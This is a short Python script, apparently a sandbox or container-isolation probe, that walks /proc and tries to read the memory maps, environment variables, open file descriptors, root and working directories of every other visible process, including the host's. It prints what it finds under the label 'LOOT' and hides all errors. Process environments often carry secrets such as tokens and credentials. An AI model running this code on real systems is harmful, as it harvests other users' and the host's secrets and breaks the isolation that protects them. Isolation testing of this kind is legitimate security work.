# Tries to read the memory of every process it can see, the host's among them.
import os, pathlib
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        for name in ("mem", "maps", "fd", "environ", "root", "cwd"):
            try:
                path = pathlib.Path("/proc", pid, name)
                print("LOOT", pid, path.read_bytes()[:10] if path.is_file() else os.listdir(path))
            except (OSError, OverflowError):
                pass
